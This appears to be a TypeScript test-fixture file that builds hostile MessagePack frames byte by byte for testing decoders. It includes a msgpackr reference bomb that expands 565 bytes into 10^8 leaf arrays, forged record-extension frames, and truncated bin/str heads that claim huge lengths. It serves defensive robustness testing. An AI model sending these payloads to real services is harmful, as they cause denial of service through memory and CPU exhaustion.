/**
 * Hostile frames written byte by byte, as an attacker would send them: no
 * MessagePack library builds these.
 */

/** A fixext 4 (0xd6) of `type` holding a 32-bit big-endian id. */
function fixext4(out: number[], type: number, id: number): void {
  out.push(0xd6, type, (id >>> 24) & 0xff, (id >>> 16) & 0xff, (id >>> 8) & 0xff, id & 0xff);
}

/** An array 16 header (0xdc) for `length` items. */
function array16(out: number[], length: number): void {
  out.push(0xdc, (length >>> 8) & 0xff, length & 0xff);
}

/**
 * msgpackr's structured-clone reference bomb. msgpackr tags a value with an
 * id (extension 0x69) and writes each later use of the same object as a
 * pointer to that id (extension 0x70). Here level 1 is an array of
 * `leafWidth` zeros; each level above is an array whose first item defines
 * the level below and whose other `width - 1` items point at it. The bytes
 * grow linearly with the levels while the tree a decoder hands back, if it
 * honours the pointers, holds width^(levels-1) × leafWidth leaves: a decoder
 * returns the shared arrays quickly, and whatever walks the result as a tree
 * walks all of them.
 */
export function referenceBomb(levels: number, width: number, leafWidth: number): Uint8Array {
  const out: number[] = [];
  const level = (n: number): void => {
    fixext4(out, 0x69, n);
    if (n === 1) {
      array16(out, leafWidth);
      for (let i = 0; i < leafWidth; i++) out.push(0x00);
      return;
    }
    array16(out, width);
    level(n - 1);
    for (let i = 1; i < width; i++) fixext4(out, 0x70, n - 1);
  };
  level(levels);
  return Uint8Array.from(out);
}

/**
 * The frame of the issue: 565 bytes, nine levels of ten, 10^8 leaf arrays of
 * 52 zeros once the references are followed.
 */
export const REFERENCE_BOMB = referenceBomb(9, 10, 52);

/**
 * msgpackr's record extension: fixext 1 of type 0x72 defines structure 0x40
 * with the keys that follow; after it, the byte 0x40 (a positive fixint in
 * plain MessagePack) reads as a record of that structure.
 */
export function recordFrame(keys: readonly string[], records: number): Uint8Array {
  const out: number[] = [0x90 + Math.min(records, 15), 0xd4, 0x72, 0x40, 0x90 + keys.length];
  for (const key of keys) out.push(0xa0 + key.length, ...Buffer.from(key, 'latin1'));
  for (const _ of keys) out.push(0x01);
  for (let r = 1; r < Math.min(records, 15); r++) {
    out.push(0x40);
    for (const _ of keys) out.push(0x02);
  }
  return Uint8Array.from(out);
}

/** A bin 32 or str 32 head announcing `length` bytes, followed by only `actual` of them. */
export function hugeHead(kind: 'bin' | 'str', length: number, actual: number): Uint8Array {
  const head = [
    kind === 'bin' ? 0xc6 : 0xdb,
    length >>> 24,
    (length >>> 16) & 0xff,
    (length >>> 8) & 0xff,
    length & 0xff,
  ];
  return Uint8Array.from([...head, ...new Array<number>(actual).fill(0x61)]);
}
